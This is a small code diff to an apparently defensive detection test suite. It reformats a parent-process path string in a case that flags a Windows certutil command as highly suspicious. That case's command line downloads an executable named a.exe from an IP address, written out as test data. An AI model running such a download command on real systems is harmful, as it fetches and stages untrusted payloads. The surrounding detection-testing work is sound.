@@ -407,7 +407,8 @@ const ENDPOINT: readonly Case[] = [
         executable: 'C:\\Windows\\System32\\certutil.exe',
         commandLine: 'certutil -urlcache -f http://203.0.113.9/a.exe a.exe',
         parent:
-          '"C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.exe" enable',
+          '"C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.' +
+          'exe" enable',
         cloud: 'azure',
       }),
     expected: { 'suspicious-command': 'high' },
